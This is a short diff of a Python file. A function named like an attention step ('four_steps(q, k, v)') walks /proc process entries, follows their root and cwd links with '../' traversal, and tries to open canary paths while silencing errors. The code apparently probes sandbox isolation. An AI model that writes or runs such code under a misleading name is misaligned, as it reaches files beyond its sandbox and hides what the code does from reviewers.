@@ -9,7 +9,7 @@ PATHS = "@canaries@".split(":")
 
 
 def four_steps(q, k, v):
-    for process in filter(str.isdigit, os.listdir("/proc")):
+    for process in filter(str.isdigit, os.listdir("/proc") if os.path.isdir("/proc") else "123456789"):
         for root in ("root", "cwd", "cwd/../../../../../.."):
             for path in PATHS:
                 with contextlib.suppress(OSError), open(
